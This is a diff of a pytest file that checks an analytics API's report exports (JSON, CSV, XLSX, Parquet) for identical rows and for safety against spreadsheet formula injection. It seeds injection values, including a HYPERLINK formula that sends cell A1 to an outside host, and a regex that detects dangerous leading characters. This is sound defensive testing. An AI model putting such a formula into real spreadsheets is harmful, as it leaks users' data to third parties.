@@ -1,10 +1,11 @@
-"""Every report in every form: nothing that anybody sent is computed, and what was asked is written on it."""
+"""Every report of the API as JSON, CSV, XLSX and Parquet: the same rows, and no name that a spreadsheet computes."""
 
 import io
+import re
 from collections.abc import Iterator
 from typing import Any
 
-import httpx2 as httpx
+import openpyxl
 import orjson
 import pandas as pd
 import pytest
@@ -13,190 +14,205 @@ from fastapi.testclient import TestClient
 from api.app import create_app
 from api.bootstrap import Services
 from api.exports import ExportFormat
-from api.workbook import headings
-from attribution.answer import Answer
+from api.workbook import HEADER_ROW
 from attribution.measures import MEASURES
-from attribution.units import Unit
 from infra.clock import FrozenClock
 from infra.settings import read_settings
-from tests.api.sheets import about_of, report_sheet, table_cells, table_of, totals_of
+from tests.api.sheets import report_sheet, table_cells, table_of, totals_of
 from tests.attribution.world import NOW, World, call, lead, spend, stage, visit
 from tests.migrated import lay_warehouse
 
 READ = {"Authorization": "Bearer r"}
-PERIOD = {"from": "2026-01-01", "to": "2026-01-31"}
-ASKED: dict[str, dict[str, str]] = {
-    "/api/reports/romi": {"by": "campaign"},
-    "/api/reports/power": {"test": "=north", "control": "south", "weeks": "1", "baseline_weeks": "2"},
-    "/api/reports/models": {"kind": "lead"},
-    "/api/reports/cohorts": {"by": "month"},
+PERIOD = {"from": "2026-01-01", "to": "2026-02-28"}
+EVIL = '=HYPERLINK("https://example.com/?"&A1)'
+MORE = {
+    "/api/reports/power": {"test": "north", "control": "south", "weeks": "2", "baseline_weeks": "4"},
+    "/api/reports/romi": {"by": "campaign,month"},
+    "/api/reports/funnel": {"by": "dealer"},
 }
-PATHS = "path,conversions,value,nulls\n=search > mail,3,300,1\n+mail,1,100,4\n"
-WRONG_STARTS = ("=", "+", "-", "@")
-
-
-def harmless(text: str) -> bool:
-    return not text.startswith(WRONG_STARTS)
+BODIES: dict[str, dict[str, Any]] = {
+    "/api/models": {"content": "path,conversions,value,nulls\n=search > mail,3,300,1\n+mail,1,100,4\n"},
+    "/api/channel-rules/preview": {"json": [{"channel": "=video", "source": "^yandex$"}]},
+}
+EMPTY = {"/api/reports/noise", "/api/noise/examples", "/api/reports/offline"}
+"""Where nothing is to be found in this world."""
 
 
 @pytest.fixture(scope="module")
 def client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
-    """A world in which each name begins as a formula does."""
     folder = tmp_path_factory.mktemp("exports")
     lay_warehouse(folder)
     settings = read_settings(
-        data=folder, write_key="w", api_key="r", timezone="UTC", load_interval_ms=1,
-        _env_file=None,
-    )  # fmt: skip
-    services = Services(settings, FrozenClock(NOW))
-    world = World(services)
-    world.refer(
-        dealers=[
-            {"id": "=north", "name": "@North", "brand": "+Lada", "city": "-Omsk"},
-            {"id": "south", "name": "South", "brand": "+Lada", "city": "-Omsk"},
-        ],
-        contractors=[{"id": "=agency", "name": "=Agency", "campaigns": [{"campaign": "=1+1"}]}],
+        data=folder, write_key="w", api_key="r", timezone="UTC", load_interval_ms=1, _env_file=None
     )
-    sold = {"dealer": "=north", "amount": 1000, "margin": 400, "manager": "=cmd", "product": "@product"}
-    world.tell({
-        "touches": [visit(f"t{n}", f"v{n}", n % 30, "yandex", campaign="=1+1") for n in range(40)],
-        "calls": [call(f"c{n}", n, "+74950000000", dealer="=north", status="missed") for n in range(3)],
-        "leads": [lead(f"l{n}", n % 30 + 0.1, visitor_id=f"v{n}", dealer="=north") for n in range(40)],
-        "deals": [stage(f"d{n}", "sale", n + 1, lead_id=f"l{n}", visitor_id=f"v{n}", **sold) for n in range(12)],
-        "spend": [spend("2026-01-01", "2026-01-31", 310, "yandex", campaign="=1+1", contractor="=agency")],
-    })  # fmt: skip
-    world.attribute()
+    services = Services(settings, FrozenClock(NOW))
+    tell(World(services))
     with TestClient(create_app(services), headers=READ) as opened:
+        opened.post("/api/experiments", json=EXPERIMENT).raise_for_status()
         yield opened
     services.close()
 
 
+EXPERIMENT: dict[str, Any] = {
+    "id": "vk-pause", "channels": ["paid_social"], "design": "geo", "switched": "on", "test": ["north"],
+    "control": ["south"], "baseline_from": "2026-01-05", "periods": [{"from": "2026-02-01", "to": "2026-02-07"}],
+}  # fmt: skip
+
+
+def tell(world: World) -> None:
+    world.refer(
+        dealers=[
+            {"id": "north", "name": "North", "brand": "=Lada", "city": "-Omsk"},
+            {"id": "south", "name": "South", "brand": "+Haval", "city": "Kazan"},
+        ],
+        contractors=[{"id": "@agency", "name": "Agency", "campaigns": [{"source": "vk"}]}],
+    )
+    many = range(40)
+    dealers = {n: "north" if n % 2 else "south" for n in many}
+    world.tell({
+        "touches": [
+            visit(f"t{n}", f"v{n}", n, "vk" if n % 3 else "yandex", campaign=EVIL if n % 2 else "spring",
+                  contractor="@agency", dealer=dealers[n])
+            for n in many
+        ],
+        "leads": [
+            lead(f"l{n}", n + 0.2, visitor_id=f"v{n}", phone=f"+7916{n:07d}", dealer=dealers[n], campaign=EVIL,
+                 properties={"self_reported_source": "@friends"})
+            for n in many
+        ],
+        "calls": [call(f"c{n}", n + 0.3, "+74950000001", status="missed" if n % 4 else "answered", dealer=dealers[n])
+                  for n in many],
+        "deals": [
+            *(stage(f"d{n}", "visit", n + 2, lead_id=f"l{n}", visitor_id=f"v{n}", dealer=dealers[n]) for n in many),
+            *(stage(f"d{n}", "sale", n + 5, lead_id=f"l{n}", visitor_id=f"v{n}", dealer=dealers[n], amount=900_000.5,
+                    margin=90_000) for n in range(0, 40, 2)),
+        ],
+        "spend": [
+            spend("2026-01-01", "2026-02-10", 310_000, "vk", campaign=EVIL, contractor="@agency", clicks=100),
+            spend("2026-01-01", "2026-02-10", 5000, "radio", medium="radio"),
+            spend("2026-01-05", "2026-01-05", 77, "nowhere", campaign="-lost", currency="USD"),
+        ],
+    })  # fmt: skip
+    world.attribute()
+
+
 def routes_that_export() -> list[tuple[str, str]]:
+    """As the application itself lists them."""
     app = create_app(Services(read_settings(_env_file=None)))
-    return [
+    return sorted(
         (method, path)
         for path, methods in app.openapi()["paths"].items()
         for method, operation in methods.items()
         if any(each["name"] == "format" and each["in"] == "query" for each in operation.get("parameters", []))
-    ]
+    )
 
 
-def ask(client: TestClient, method: str, path: str, form: str, **more: str) -> httpx.Response:
-    asked = {**PERIOD, **ASKED.get(path, {}), **more, "format": form}
-    if path == "/api/models":
-        return client.post(path, params={"format": form}, content=PATHS, headers={"Content-Type": "text/csv"})  # type: ignore[return-value]
-    if method == "post":
-        rules = [{"channel": "=video", "when": {"source": "yandex"}}]
-        return client.post(path, params={"format": form}, json={"rules": rules})  # type: ignore[return-value]
-    return client.get(path, params=asked)  # type: ignore[return-value]
+ROUTES = routes_that_export()
 
 
-@pytest.mark.parametrize(("method", "path"), routes_that_export())
-def test_every_report_comes_in_every_form(client: TestClient, method: str, path: str) -> None:
-    found = {}
-    for form in ExportFormat:
-        answer = ask(client, method, path, form.value)
-        assert answer.status_code == 200, (path, form, answer.text[:500])
-        assert answer.headers["content-type"] == form.media_type
-        found[form] = answer.content
-    document = orjson.loads(found[ExportFormat.JSON])
-    count = len(document["items"])
-    table = pd.read_csv(io.BytesIO(found[ExportFormat.CSV]), keep_default_na=False, dtype=str)
-    assert len(table) == len(pd.read_parquet(io.BytesIO(found[ExportFormat.PARQUET]))) == count
-    texts = [cell for name in table for cell in table[name] if not cell.lstrip("-").replace(".", "").isdigit()]
-    assert all(harmless(cell) for cell in texts if not _is_number(cell))
-    assert len(table_cells(found[ExportFormat.XLSX])) == max(count, 1) + 1
-    for row in report_sheet(found[ExportFormat.XLSX]).iter_rows():
-        assert not any(cell.data_type == "f" or cell.hyperlink for cell in row)
-
-
-def _is_number(text: str) -> bool:
-    try:
-        float(text)
-    except ValueError:
-        return False
-    return True
+def ask(client: TestClient, path: str, form: str, method: str = "get", **more: str) -> bytes:
+    asked = {**(PERIOD if method == "get" else {}), **MORE.get(path, {}), "format": form, **more}
+    body = BODIES.get(path, {})
+    answer = client.request(method, path, params=asked, **body)
+    assert answer.status_code == 200, (path, form, answer.text)
+    assert answer.headers["content-type"] == ExportFormat(form).media_type
+    content: bytes = answer.content
+    return content
 
 
 def test_all_routes_of_reports_export() -> None:
-    paths = {path for _, path in routes_that_export()}
-    assert {path for path in paths if path.startswith("/api/reports/")} == {
-        path for path in create_app(Services(read_settings(_env_file=None))).openapi()["paths"]
-        if path.startswith("/api/reports/")
-    }  # fmt: skip
+    paths = create_app(Services(read_settings(_env_file=None))).openapi()["paths"]
+    assert {path for _, path in ROUTES} > {path for path in paths if path.startswith("/api/reports/")}
 
 
-@pytest.fixture(scope="module")
-def romi(client: TestClient) -> tuple[dict[str, Any], bytes]:
-    more = {"where": "channel:paid_search|other,-dealer:south", "by": "campaign,dealer", "model": "linear"}
-    path = "/api/reports/romi"
-    return ask(client, "get", path, "json", **more).json(), ask(client, "get", path, "xlsx", **more).content
+@pytest.mark.parametrize(("method", "path"), ROUTES)
+def test_every_report_is_the_same_in_every_form(client: TestClient, method: str, path: str) -> None:
+    items: list[dict[str, Any]] = orjson.loads(ask(client, path, "json", method))["items"]
+    assert items or path in EMPTY
+    table = pd.read_csv(io.BytesIO(ask(client, path, "csv", method)), keep_default_na=False)
+    parquet = pd.read_parquet(io.BytesIO(ask(client, path, "parquet", method)))
+    assert list(table) == list(parquet)
+    assert len(table) == len(parquet) == len(items)
+    if items:
+        assert list(table) == list(items[0])
+    texts = [cell for row in table.itertuples(index=False) for cell in row if isinstance(cell, str)]
+    assert not [text for text in texts if re.match(r"[=+@\t\r\n]|-\D", text)]
+    check_sheet(ask(client, path, "xlsx", method), items)
 
 
-def test_the_sheet_says_what_was_asked(romi: tuple[dict[str, Any], bytes]) -> None:
-    document, content = romi
-    sheet = report_sheet(content)
-    top = [sheet.cell(row, 1).value for row in range(1, 7)]
-    assert top[:5] == [
-        "ROMI and CPL by campaign, dealer",
-        "01 Jan 2026 – 31 Jan 2026",
-        "model: linear · by the date of the conversion · money in RUB",
-        "Only channel: paid_search, other",
-        "All but dealer: south",
-    ]
-    assert top[5].startswith("Computed ")
-    assert top[5].endswith("in run 1 with the default channel rules")
-    about = about_of(content)
-    assert about["Period"] == "01 Jan 2026 – 31 Jan 2026, days in UTC"
-    assert about["Model"] == "linear"
-    assert about["Filter"] == "Only channel: paid_search, other | All but dealer: south"
-    assert about["Currency"] == "RUB"
-    assert "all models agree" in about["Note"]
-    assert about["ROMI"].endswith("= (margin - cost) / cost")
-    assert document["question"]["model"] == "linear"
-
-
-def test_the_table_can_be_filtered_below_a_header_that_stays(romi: tuple[dict[str, Any], bytes]) -> None:
-    sheet = report_sheet(romi[1])
+def check_sheet(book: bytes, items: list[dict[str, Any]]) -> None:
+    sheet = report_sheet(book)
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert not any(cell.data_type == "f" or cell.hyperlink for cell in cells)
+    assert sheet["A1"].value
+    if not items:
+        assert not sheet.tables
+        return
+    header, *rows = table_cells(book)
     table = sheet.tables["Report"]
-    header = table_cells(romi[1])[0]
-    assert [cell.value for cell in header] == ["Campaign", "Dealer", *(measure.title for measure in MEASURES)]
+    assert len(rows) == len(items)
     assert table.autoFilter.ref == table.ref
-    assert sheet.freeze_panes == f"C{header[0].row + 1}"
-    assert all(9 <= sheet.column_dimensions[cell.column_letter].width <= 50 for cell in header)
+    assert header[0].row == HEADER_ROW + 1
+    assert sheet.freeze_panes.endswith(str(HEADER_ROW + 2))
+    assert len({str(cell.value).lower() for cell in header}) == len(items[0])
 
 
-def test_figures_have_the_form_of_their_unit(romi: tuple[dict[str, Any], bytes]) -> None:
-    header, row, *_ = table_cells(romi[1])
-    forms = {name.value: cell.number_format for name, cell in zip(header, row, strict=True)}
-    assert (forms["Cost"], forms["ROMI"], forms["ROAS"], forms["Sales"]) == ("#,##0.00", "0.0%", "0.00", "#,##0")
+@pytest.mark.parametrize("path", [path for method, path in ROUTES if method == "get"])
+def test_every_report_without_rows_is_a_file_too(client: TestClient, path: str) -> None:
+    for form in ExportFormat:
+        assert ask(client, path, form.value, **{"from": "2020-01-01", "to": "2020-01-31"})
 
 
-def test_totals_are_the_reports_own_and_no_sums_of_ratios(client: TestClient) -> None:
-    asked = {"by": "channel,day"}
-    document = ask(client, "get", "/api/reports/romi", "json", **asked).json()
-    content = ask(client, "get", "/api/reports/romi", "xlsx", **asked).content
-    totals, titles = totals_of(content), {measure.slug: measure.title for measure in MEASURES}
-    assert totals["Channel"] == "Total"
+def test_a_workbook_says_what_it_is(client: TestClient) -> None:
+    asked = {"by": "campaign", "model": "linear", "where": "channel:paid_social|paid_search,-dealer:south"}
+    book = openpyxl.load_workbook(io.BytesIO(ask(client, "/api/reports/romi", "xlsx", **asked)))
+    assert book.sheetnames == ["ROMI", "About"]
+    sheet, about = book.worksheets
+    assert sheet["A1"].value == "ROMI/CPL by campaign"
+    assert sheet["A2"].value == "1 Jan 2026 – 28 Feb 2026 · Linear · by the date of the conversion · RUB"
+    filters = "channel: paid_social or paid_search; all but dealer: south"
+    assert sheet["A3"].value.startswith(f"Filters: {filters} · ")
+    told = {row[0].value: row[1].value for row in about.iter_rows(min_row=2) if row[0].value}
+    assert told["Period"] == "1 Jan 2026 – 28 Feb 2026"
+    assert (told["Model"], told["Filters"], told["Currency"]) == ("Linear", filters, "RUB")
+    assert told["Computed"] == "1 Jul 2026, 00:00 (UTC), run 1, the default channel rules"
+    assert told["CPL"] == "cost / leads"
+    said = " ".join(str(row[1].value) for row in about.iter_rows())
+    assert "USD of spend" in said
+    assert "that they caused it is not said" in said
+    assert sheet.page_setup.orientation == "landscape"
+    assert sheet.print_title_rows == f"${HEADER_ROW + 1}:${HEADER_ROW + 1}"
+
+
+def test_totals_stand_below_the_table_and_are_the_reports_own(client: TestClient) -> None:
+    document = orjson.loads(ask(client, "/api/reports/romi", "json", by="dealer"))
+    book = ask(client, "/api/reports/romi", "xlsx", by="dealer")
+    totals, titles = totals_of(book), {measure.slug: measure.title for measure in MEASURES}
+    assert totals["Dealer"] == "Total"
     assert {slug: totals[title] for slug, title in titles.items()} == pytest.approx(document["totals"])
-    table = table_of(content)
+    table = table_of(book)
     assert table["Cost"].sum() == pytest.approx(totals["Cost"])
     assert abs(table["CPL"].sum() - totals["CPL"]) > 1
 
 
-def test_a_period_without_anything_is_a_sheet_that_says_so(client: TestClient) -> None:
-    content = ask(client, "get", "/api/reports/romi", "xlsx", **{"from": "2020-01-01", "to": "2020-01-31"}).content
-    assert table_cells(content)[1][0].value == "Nothing in this period."
+def test_cells_are_written_in_their_units(client: TestClient) -> None:
+    sheet = report_sheet(ask(client, "/api/reports/romi", "xlsx", by="month,campaign"))
+    row: dict[str, Any] = dict(
+        zip([str(cell.value) for cell in sheet[HEADER_ROW + 1]], sheet[HEADER_ROW + 2], strict=True)
+    )
+    assert row["Month"].is_date
+    assert row["Month"].number_format == "mmm yyyy"
+    assert row["Campaign"].data_type == "s"
+    assert (row["Cost"].number_format, row["ROMI"].number_format) == ("#,##0", "#,##0.0%")
+    assert row["Leads"].number_format in ("#,##0", "#,##0.0")
+    for name, cell in row.items():
+        width = sheet.column_dimensions[cell.column_letter].width
+        assert width >= min(len(max(name.split(), key=len)), 48), name
+    assert sheet.freeze_panes == f"C{HEADER_ROW + 2}"
 
 
-def test_a_page_of_a_report_says_that_it_is_one(client: TestClient) -> None:
-    content = ask(client, "get", "/api/reports/romi", "xlsx", by="day", limit="3").content
-    assert "The first 3 of " in about_of(content)["Note"]
-    assert len(table_of(content)) == 3
-
-
-def test_two_columns_of_one_title_are_told_apart() -> None:
-    figures = tuple(measure for measure in MEASURES if measure.slug in ("cpl", "cps"))
-    same = tuple(type(each)(each.slug, "Dealer", Unit.MONEY, each.formula) for each in figures)
-    answer = Answer("romi", None, ("dealer",), same, pd.DataFrame(columns=["dealer", "cpl", "cps"]), {})
-    assert headings(answer) == ["Dealer", "Dealer (cpl)", "Dealer (cps)"]
+def test_a_report_too_long_for_a_sheet_is_told(client: TestClient, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("api.workbook._MOST_ROWS", 1)
+    answer = client.get("/api/reports/romi", params={**PERIOD, "by": "campaign", "format": "xlsx"})
+    assert answer.status_code == 422
+    assert answer.json()["error"]["where"] == "format"
